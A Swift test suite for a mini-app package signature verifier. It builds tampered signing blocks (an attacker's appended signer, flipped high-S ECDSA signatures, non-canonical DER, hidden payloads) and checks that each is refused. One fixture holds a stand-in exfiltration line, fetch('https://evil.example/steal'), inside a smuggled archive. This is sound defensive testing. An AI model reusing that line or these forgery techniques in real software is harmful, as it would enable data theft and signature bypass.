import Crypto
import Foundation
import SwiftASN1
import Testing
import X509
@testable import MiniAppKit

/// What a signature must be (issue 38, classes 2 and 3; docs/verify.md): a block with one
/// developer signature holding one signer, whose every byte is checked, in its one canonical
/// encoding; and what `--key` and `--cert` pin.
struct SignerRulesTests {
    static let unsigned = CraftedZip.minimalApp().bytes()
    static let key = SignedPackageSurgery.key
    static let otherKey: SigningKey = try! SigningKey.load(pem: P256.Signing.PrivateKey().pemRepresentation)
    /// Valid from 2020 for 25 years.
    static let certificate = try! SigningCertificate.selfSigned(for: key, appID: "org.example.demo", notBefore: 1_577_836_800)

    /// The whole-file digest of the unsigned package.
    static var digest: [UInt8] {
        let layout = try! ZipLayout.read(unsigned)
        return PackageDigest.compute(
            entries: unsigned[0..<layout.centralDirectoryOffset],
            centralDirectory: unsigned[layout.centralDirectoryOffset..<layout.endRecordOffset],
            endRecord: Array(unsigned[layout.endRecordOffset...]), blockStart: layout.centralDirectoryOffset)
    }

    static func lp(_ bytes: [UInt8]) -> [UInt8] { SigningBlock.lengthPrefixed(bytes) }

    /// One signer's bytes, field by field; the signature is made over the signed data with
    /// `key` unless `signatures` gives the entries.
    static func signer(
        key: SigningKey = key, digests: [(UInt32, [UInt8])]? = nil, certificates: [[UInt8]]? = nil, attributes: [UInt8] = [],
        signatures: (([UInt8]) throws -> [(UInt32, [UInt8])])? = nil, publicKey: [UInt8]? = nil
    ) throws -> [UInt8] {
        let digestEntries = (digests ?? [(0x0201, digest)]).map { lp(u32($0.0) + lp($0.1)) }.joined()
        let certificateEntries = (certificates ?? [certificate.der]).map(lp).joined()
        let signedData = lp(Array(digestEntries)) + lp(Array(certificateEntries)) + lp(attributes)
        let signatureList: [(UInt32, [UInt8])] =
            if let signatures { try signatures(signedData) } else { [(0x0201, try key.sign(signedData))] }
        let signatureEntries = signatureList.map { lp(u32($0.0) + lp($0.1)) }.joined()
        return lp(signedData) + lp(Array(signatureEntries)) + lp(publicKey ?? key.publicKeyDER)
    }

    /// The unsigned package with a block holding one developer signature of these signers.
    static func package(signers: [[UInt8]]) throws -> [UInt8] {
        let value = lp(Array(signers.map(lp).joined()))
        let block = SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, value)])
        return try SignedPackageSurgery.insert(block, at: try ZipLayout.read(unsigned).centralDirectoryOffset, into: unsigned)
    }

    static func failures(_ package: [UInt8], expected: ExpectedSigner? = nil, now: Date = Date()) -> [VerificationFailure] {
        PackageVerifier.verify(package, expected: expected, now: now).failures
    }

    /// Where the first signer starts: block size (8), pair size (8), id (4), value length (4),
    /// signer sequence length (4).
    static var signerOffset: Int { try! ZipLayout.read(unsigned).centralDirectoryOffset + 28 }

    @Test func aSignerBuiltFieldByFieldIsWhatThePackerWrites() throws {
        let package = try Self.package(signers: [try Self.signer()])
        let report = PackageVerifier.verify(package, requireSignature: true)
        #expect(report.failures == [])
        #expect(report.signed)
        // The packer's layout: the same block around its own (randomised) ECDSA signature.
        let packed = try PackageSigner.sign(Self.unsigned, key: Self.key, certificate: Self.certificate)
        #expect(PackageVerifier.verify(packed, requireSignature: true).signed)
    }

    // MARK: - Class 3: one signer, one signature

    @Test func aSecondSignerAppendedByAThirdPartyIsRefused() throws {
        let own = try Self.signer()
        let attacker = try Self.signer(
            key: Self.otherKey,
            certificates: [try SigningCertificate.selfSigned(for: Self.otherKey, appID: "evil", notBefore: 1_577_836_800).der])
        let package = try Self.package(signers: [own, attacker])
        #expect(
            Self.failures(package) == [
                VerificationFailure(
                    "signature-block",
                    "a second signer at offset \(Self.signerOffset + own.count); a package has exactly one, so nobody can add one that a host showing the first would not see"
                )
            ])
        // Put first, the attacker's signer is refused just the same.
        #expect(Self.failures(try Self.package(signers: [attacker, own])).map(\.id) == ["signature-block"])
    }

    @Test func aFlippedECDSASignatureIsRefusedAndMactlWritesOnlyLowS() throws {
        var flipped: [UInt8] = []
        let signer = try Self.signer(signatures: { data in
            let raw = [UInt8](try P256.Signing.ECDSASignature(derRepresentation: try Self.key.sign(data)).rawRepresentation)
            let high = Array(raw[..<32]) + ECDSALowS.subtract(ECDSALowS.order, Array(raw[32...]))
            flipped = [UInt8](try P256.Signing.ECDSASignature(rawRepresentation: high).derRepresentation)
            return [(0x0201, flipped)]
        })
        // (r, n - s) verifies: the check that refuses it is the canonical form, not the signature.
        #expect(
            Self.failures(try Self.package(signers: [signer])) == [
                VerificationFailure(
                    "signature-not-canonical",
                    "the ECDSA signature's s is above n/2; (r, n - s) verifies too, so only the low form is accepted")
            ])
        for round in 0..<64 {
            let signature = try P256.Signing.ECDSASignature(derRepresentation: try Self.key.sign(Array("data \(round)".utf8)))
            #expect(ECDSALowS.isLow([UInt8](signature.rawRepresentation)[32...]))
        }
    }

    @Test func aSignatureInNonCanonicalDERIsRefused() throws {
        let signer = try Self.signer(signatures: { data in
            let der = try Self.key.sign(data)
            // The same SEQUENCE with its length in the long form (0x81 LL).
            return [(0x0201, [0x30, 0x81] + der[1...])]
        })
        #expect(
            Self.failures(try Self.package(signers: [signer])) == [
                VerificationFailure(
                    "signature-not-canonical", "the ECDSA signature is not in canonical DER")
            ])
    }

    // MARK: - Class 2: every byte of the signer is read

    @Test func aSecondSignatureWithAnUnknownAlgorithmIsRefused() throws {
        var hidden = CraftedZip.minimalApp()
        hidden.entries[2] = CraftedZip.Entry("app.js", "fetch('https://evil.example/steal')\n")
        for payload in [Array("arbitrary bytes".utf8), [UInt8](repeating: 0, count: 64)] {
            let signer = try Self.signer(signatures: { data in [(UInt32(0x0201), try Self.key.sign(data)), (UInt32(0x7777), payload)] })
            let failures = Self.failures(try Self.package(signers: [signer]))
            #expect(failures.map(\.id) == ["signature-block"])
            #expect(failures.first?.message.hasPrefix("a second signature at offset") == true)
        }
        // A whole second archive in that entry is found before the block is read.
        let carrier = try Self.signer(signatures: { data in [(UInt32(0x0201), try Self.key.sign(data)), (UInt32(0x7777), hidden.bytes())] })
        #expect(Self.failures(try Self.package(signers: [carrier])).map(\.id) == ["archive-hidden-structure"])
    }

    @Test func aSignatureOnlyInAnAlgorithmMactlCannotCheckIsRefused() throws {
        for algorithm: UInt32 in [0x0102, 0x0202, 0x9999] {
            let signer = try Self.signer(
                digests: [(algorithm, Self.digest)], signatures: { data in [(algorithm, try Self.key.sign(data))] })
            #expect(
                Self.failures(try Self.package(signers: [signer])) == [
                    VerificationFailure(
                        "signature-block",
                        "the signature uses algorithm \(SigningBlock.hex(algorithm)), which mactl cannot check; accepted: 0x0201 (ECDSA P-256, SHA-256) and 0x0103 (RSA PKCS#1 v1.5, SHA-256)"
                    )
                ])
        }
    }

    @Test func extraDigestsCertificatesAndAttributesAreRefused() throws {
        let twoDigests = try Self.signer(digests: [(0x0201, Self.digest), (0x0103, Self.digest)])
        #expect(Self.failures(try Self.package(signers: [twoDigests])).first?.message.hasPrefix("a second digest at offset") == true)
        let twoCertificates = try Self.signer(certificates: [Self.certificate.der, Self.certificate.der])
        #expect(
            Self.failures(try Self.package(signers: [twoCertificates])).first?.message.hasPrefix("a second certificate at offset") == true)
        let noCertificate = try Self.signer(certificates: [])
        #expect(
            Self.failures(try Self.package(signers: [noCertificate])) == [
                VerificationFailure("signature-block", "the signer has no certificate")
            ])
        let attributes = try Self.signer(attributes: Array("anything at all".utf8))
        let failures = Self.failures(try Self.package(signers: [attributes]))
        #expect(failures.map(\.id) == ["signature-block"])
        // The signed data's length (4), the digests (4 + 4 + 4 + 4 + 32), the certificates (4 + 4 + DER), the attributes' length (4).
        #expect(
            failures == [
                VerificationFailure(
                    "signature-block",
                    "the signed data carries 15 bytes of additional attributes at offset \(Self.signerOffset + 4 + 48 + 8 + Self.certificate.der.count + 4); mactl reads none, so it accepts none"
                )
            ])
        let mismatched = try Self.signer(digests: [(0x0103, Self.digest)])
        #expect(
            Self.failures(try Self.package(signers: [mismatched])) == [
                VerificationFailure(
                    "signature-block", "the signed digest is for algorithm 0x0103 but the signature uses 0x0201")
            ])
    }

    // MARK: - The certificate

    @Test func aCertificateThatIsNotSelfSignedIsRefused() throws {
        let name = try DistinguishedName { CommonName("org.example.demo") }
        let issuer = try DistinguishedName { CommonName("Some CA") }
        guard case .p256(let signerKey) = Self.key else { Issue.record("the test key is P-256"); return }
        let otherKey = P256.Signing.PrivateKey()
        func certificate(issuer: DistinguishedName, signedBy: P256.Signing.PrivateKey) throws -> [UInt8] {
            let certificate = try Certificate(
                version: .v3, serialNumber: .init(), publicKey: .init(signerKey.publicKey),
                notValidBefore: Date(timeIntervalSince1970: 1_577_836_800), notValidAfter: Date(timeIntervalSince1970: 2_500_000_000),
                issuer: issuer, subject: name, signatureAlgorithm: .ecdsaWithSHA256, extensions: Certificate.Extensions(),
                issuerPrivateKey: .init(signedBy))
            var serializer = DER.Serializer()
            try serializer.serialize(certificate)
            return serializer.serializedBytes
        }
        for der in [try certificate(issuer: issuer, signedBy: otherKey), try certificate(issuer: name, signedBy: otherKey)] {
            let failures = Self.failures(try Self.package(signers: [try Self.signer(certificates: [der])]))
            #expect(failures.map(\.id) == ["signature-certificate"])
            #expect(failures.first?.message.hasPrefix("the signer's certificate is not self-signed with a signature that verifies") == true)
        }
        // Pack refuses such a certificate before it signs anything.
        let pem =
            "-----BEGIN CERTIFICATE-----\n"
            + Data(try certificate(issuer: issuer, signedBy: otherKey)).base64EncodedString(options: .lineLength64Characters)
            + "\n-----END CERTIFICATE-----\n"
        #expect(throws: SigningError.self) { try SigningCertificate.load(pem: pem, matching: Self.key) }
    }

    @Test func aCertificateForAnotherKeyIsRefused() throws {
        let other = try SigningCertificate.selfSigned(for: Self.otherKey, appID: "org.example.demo", notBefore: 1_577_836_800)
        #expect(
            Self.failures(try Self.package(signers: [try Self.signer(certificates: [other.der])])) == [
                VerificationFailure(
                    "signature-certificate", "the certificate's public key is not the signer's key")
            ])
    }

    // MARK: - What --key and --cert pin

    @Test func theCertificatePinsItsBytesAndItsValidity() throws {
        let package = try Self.package(signers: [try Self.signer()])
        let pinned = ExpectedSigner(publicKey: Self.key.publicKeyDER, certificate: Self.certificate.der)
        let report = PackageVerifier.verify(package, expected: pinned)
        #expect(report.failures == [] && report.signerAuthenticated)

        // The same key in another certificate: --cert pins the certificate, --key the key.
        let renewed = try SigningCertificate.selfSigned(for: Self.key, appID: "org.example.renewed", notBefore: 1_577_836_800)
        let other = ExpectedSigner(publicKey: Self.key.publicKeyDER, certificate: renewed.der)
        #expect(
            Self.failures(package, expected: other) == [
                VerificationFailure(
                    "signature-unexpected-signer",
                    "the package is signed by the expected key but carries another certificate (sha256 \(Self.certificate.fingerprint)) than the one given (sha256 \(renewed.fingerprint)); --cert pins the certificate, --key the key alone"
                )
            ])
        #expect(Self.failures(package, expected: ExpectedSigner(publicKey: Self.key.publicKeyDER)) == [])

        // Outside its validity, the pinned certificate vouches for nothing.
        #expect(
            Self.failures(package, expected: pinned, now: Date(timeIntervalSince1970: 1_577_836_800 + 26 * 365 * 86_400)) == [
                VerificationFailure(
                    "signature-certificate-expired",
                    "the certificate expired on 2044-12-31T06:00:00Z, so it does not vouch for the package now")
            ])
        #expect(
            Self.failures(package, expected: pinned, now: Date(timeIntervalSince1970: 1_500_000_000)) == [
                VerificationFailure(
                    "signature-certificate-expired",
                    "the certificate is not valid before 2020-01-01T00:00:00Z, so it does not vouch for the package now")
            ])
        // A bare key has no validity: --key pins the key of an expired certificate too.
        #expect(
            Self.failures(
                package, expected: ExpectedSigner(publicKey: Self.key.publicKeyDER), now: Date(timeIntervalSince1970: 4_000_000_000)) == [])
    }

    @Test func aCertificateFileWithTwoCertificatesIsRefused() throws {
        let pem =
            "-----BEGIN CERTIFICATE-----\n" + Data(Self.certificate.der).base64EncodedString(options: .lineLength64Characters)
            + "\n-----END CERTIFICATE-----\n"
        #expect(
            throws: ExpectedSigner.ReadFailure.unusableCertificate(
                "holds 2 certificates; give the signer's certificate alone (a package carries one certificate, and mactl pins it rather than following a chain)"
            )
        ) {
            try ExpectedSigner.read(pem: pem + pem)
        }
        #expect(try ExpectedSigner.read(pem: pem) == ExpectedSigner(publicKey: Self.key.publicKeyDER, certificate: Self.certificate.der))
    }
}
